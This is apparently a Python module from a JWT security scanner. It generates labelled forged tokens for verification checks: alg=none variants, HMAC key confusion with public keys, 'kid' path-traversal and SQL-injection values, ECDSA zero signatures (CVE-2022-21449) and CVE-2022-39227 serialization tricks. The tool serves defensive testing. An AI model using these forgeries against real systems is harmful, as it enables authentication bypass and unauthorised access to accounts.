"""Forged tokens for the jwt checks: each function returns labelled tokens, never sends them.

Every forgery keeps the original claims (CHECKS.md §4.2: "Each forged token keeps the original
claims") unless the function exists to change them. Header members other than the one under
test are kept in their original order, so a rejection can only be due to the forgery.
Key-bearing forgeries (embedded ``jwk``/``x5c``, ``jku``/``x5u``) live in ``forge_keys``.
"""

from __future__ import annotations

import json
import secrets
from collections.abc import Sequence
from typing import Any

from authsift.jose.errors import JoseError
from authsift.jose.jws import CompactJws, assemble, b64url_encode, json_bytes, parse_compact
from authsift.jose.keys import key_encodings
from authsift.jose.sign import (
    ASYMMETRIC_ALGS,
    ECDSA_COORDINATE_BYTES,
    HMAC_ALGS,
    sign_over_segment,
)

Forgery = tuple[str, str]
"""(label, token): the label says what was changed, for evidence and reports."""

NONE_SPELLINGS = ("none", "None", "NONE", "nOnE")

#: Curve orders n (SEC 2 §2.4.2, §2.5.1, §2.6.1) for the r = s = n psychic variant.
CURVE_ORDERS = {
    "ES256": 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551,
    "ES384": int(
        "FFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFC7634D81F4372DDF"
        "581A0DB248B0A77AECEC196ACCC52973",
        16,
    ),
    "ES512": int(
        "01" + "F" * 64 + "FA51868783BF2F966B7FCC0148F709A5D03BB5C9B8899C47AEBB6FB71E91386409", 16
    ),
}

#: The DER encoding of ECDSA (r=0, s=0): SEQUENCE { INTEGER 0, INTEGER 0 }.
PSYCHIC_DER = bytes.fromhex("3006020100020100")


def alg_none_variants(token: str) -> list[Forgery]:
    """Unsecured-JWS variants (CHECKS #7).

    RFC 7518 §3.6: "Implementations that support Unsecured JWSs MUST NOT accept such objects as
    valid unless the application specifies that it is acceptable for a specific object to not be
    integrity protected." draft-ietf-oauth-rfc8725bis ("Algorithm Verification Code Not
    Defensively Written") names the "noNE" case-variant bypass, hence each spelling, sent with an
    empty signature and with the original one kept; plus a header whose ``alg`` was deleted.
    """
    parsed = parse_compact(token)
    forgeries: list[Forgery] = []
    for spelling in NONE_SPELLINGS:
        header = _with_header(parsed, alg=spelling)
        forgeries.append((f"alg={spelling}, empty signature", assemble(header, parsed.raw_payload)))
        if parsed.raw_signature:
            kept = assemble(header, parsed.raw_payload, parsed.raw_signature)
            forgeries.append((f"alg={spelling}, original signature kept", kept))
    without_alg = {k: v for k, v in parsed.header.items() if k != "alg"}
    forgeries.append(
        ("alg member deleted, empty signature", assemble(without_alg, parsed.raw_payload))
    )
    return forgeries


def signature_tampering(token: str, other_token: str | None = None) -> list[Forgery]:
    """Garbled, stripped and swapped signatures (CHECKS #6).

    RFC 7515 §5.2 step 8: "Validate the JWS Signature ... If validation fails, the JWS MUST be
    rejected"; RFC 8725 §3.3 "Validate All Cryptographic Operations". The flipped character is
    in the middle of the signature, never the last, whose low bits may be ignored padding.
    """
    parsed = parse_compact(token)
    h, p, s = parsed.raw_header, parsed.raw_payload, parsed.raw_signature
    forgeries: list[Forgery] = []
    if len(s) >= 2:
        middle = len(s) // 2
        replacement = "A" if s[middle] != "A" else "B"
        flipped = s[:middle] + replacement + s[middle + 1 :]
        forgeries.append(("signature: one middle character flipped", f"{h}.{p}.{flipped}"))
    forgeries.append(("signature: empty", f"{h}.{p}."))
    forgeries.append(("signature: segment removed", f"{h}.{p}"))
    if parsed.payload is not None:
        extra = _unused_claim_name(parsed.payload)
        changed = assemble(h, {**parsed.payload, extra: 1}, s)
        forgeries.append((f'payload +{{"{extra}":1}}, original signature kept', changed))
    if other_token is not None:
        other = parse_compact(other_token)
        if other.raw_signature != s:
            swapped = f"{h}.{p}.{other.raw_signature}"
            forgeries.append(("signature taken from another token", swapped))
    return forgeries


def hmac_confusion(token: str, public_keys: Sequence[Any]) -> list[Forgery]:
    """RS/ES/PS/EdDSA → HS256/384/512 signed with the public key's bytes (CHECKS #8).

    RFC 8725 §3.1: "Libraries MUST enable the caller to specify a supported set of algorithms and
    MUST NOT use any other algorithms"; §2.1: the attacker switches to an HMAC "and uses the
    public key as the HMAC secret" (CVE-2015-9235, CVE-2016-10555, CVE-2022-29217). ``kid`` kept.
    Keys are ``cryptography`` keys, ``JwkEntry`` objects or JWK dicts; every serialisation from
    :func:`authsift.jose.keys.key_encodings` is tried under each HS algorithm.
    """
    parsed = parse_compact(token)
    forgeries: list[Forgery] = []
    for index, public_key in enumerate(public_keys):
        for encoding, secret in key_encodings(public_key):
            for alg in HMAC_ALGS:
                header = _with_header(parsed, alg=alg)
                forged = sign_over_segment(header, parsed.raw_payload, secret, alg)
                forgeries.append((f"{alg} keyed with key #{index} as {encoding}", forged))
    return forgeries


def kid_injection(token: str) -> list[Forgery]:
    """``kid`` payloads that may steer key lookup to a known key (CHECKS #12).

    RFC 8725 §3.10: "the 'kid' ... Applications MUST ensure that this does not create SQL or
    LDAP injection vulnerabilities"; RFC 7515 §4.1.4 leaves ``kid`` structure unspecified, so
    servers build file paths and queries from it (CVE-2021-46743). HS256 throughout: the empty
    key matches ``/dev/null`` or a missing-key fallback, ``k`` matches the UNION SELECT.
    """
    parsed = parse_compact(token)
    cases: list[tuple[str, str, bytes]] = [
        ("kid path traversal to /dev/null, empty key", "../../../../../../dev/null", b""),
        ("kid absolute /dev/null, empty key", "/dev/null", b""),
        ("kid SQL injection UNION SELECT 'k', key 'k'", "x' UNION SELECT 'k'-- -", b"k"),
        ("kid unknown (missing-key fallback), empty key", f"authsift-{secrets.token_hex(6)}", b""),
        ("kid 4096 characters long, empty key", "A" * 4096, b""),
        ("kid with Unicode characters, empty key", "ключ-🔑-\u202e", b""),
    ]
    forgeries: list[Forgery] = []
    for label, kid, key in cases:
        header = _with_header(parsed, alg="HS256", kid=kid)
        forgeries.append((label, sign_over_segment(header, parsed.raw_payload, key, "HS256")))
    return forgeries


def psychic_signature(token: str) -> list[Forgery]:
    """ECDSA signatures with r = s = 0 or r = s = n (CVE-2022-21449, "psychic signatures").

    ECDSA verification (SEC 1 §4.1.4 step 1) requires "r and s are both integers in the interval
    [1, n-1]"; Java 15–18 skipped that check so zero signatures verified. RFC 7518 §3.4 fixes the
    JWS form as R‖S, each the curve's coordinate size. Returns ``[]`` unless ``alg`` is ES*.
    """
    parsed = parse_compact(token)
    alg = parsed.alg or ""
    if alg not in ECDSA_COORDINATE_BYTES:
        return []
    size = ECDSA_COORDINATE_BYTES[alg]
    order = CURVE_ORDERS[alg].to_bytes(size, "big")
    h, p = parsed.raw_header, parsed.raw_payload
    return [
        (f"{alg} R‖S all zero ({2 * size} bytes)", assemble(h, p, bytes(2 * size))),
        ("DER signature r=0, s=0 (30 06 02 01 00 02 01 00)", assemble(h, p, PSYCHIC_DER)),
        (f"{alg} r = s = n (curve order)", assemble(h, p, order + order)),
    ]


def serialization_confusion(token: str, forged_claims: dict[str, Any]) -> list[Forgery]:
    """JSON-serialisation tokens whose signed and read claims may differ (CHECKS #14).

    ``forged_claims`` are merged over the original claims (e.g. ``{"sub": other}`` or
    ``{"x": 1}``). CVE-2022-39227 (python-jwt): a JSON object whose first key is
    ``"<h>.<forged p>."`` passes verification of the ``protected``/``payload``/``signature``
    members while the claims are read from the forged compact string. RFC 7519 §1: "JWTs are
    always represented using the JWS Compact Serialization", so a flattened (RFC 7515 §7.2.2)
    or general (§7.2.1) JSON serialization should be refused by a JWT consumer.
    """
    parsed = parse_compact(token)
    if parsed.payload is None:
        raise JoseError("cannot forge claims: the payload is not a JSON object")
    forged_payload = b64url_encode(json_bytes({**parsed.payload, **forged_claims}))
    h, p, s = parsed.raw_header, parsed.raw_payload, parsed.raw_signature
    mixed = {f"{h}.{forged_payload}.": "", "protected": h, "payload": p, "signature": s}
    flattened = {"protected": h, "payload": p, "signature": s}
    general = {"payload": p, "signatures": [{"protected": h, "signature": s}]}
    return [
        ("CVE-2022-39227 mixed compact/JSON form", _compact_json(mixed)),
        ("flattened JWS JSON serialization", _compact_json(flattened)),
        ("general JWS JSON serialization", _compact_json(general)),
    ]


def is_asymmetric(token: str) -> bool:
    """True when the token's ``alg`` is an RS/PS/ES/EdDSA algorithm (confusion candidates)."""
    return parse_compact(token).alg in ASYMMETRIC_ALGS


def _with_header(parsed: CompactJws, **changes: Any) -> dict[str, Any]:
    """The original header with members replaced in place (order kept) or appended."""
    header = dict(parsed.header)
    header.update(changes)
    return header


def _unused_claim_name(payload: dict[str, Any]) -> str:
    name = "x"
    while name in payload:
        name += "x"
    return name


def _compact_json(value: dict[str, Any]) -> str:
    return json.dumps(value, separators=(",", ":"))
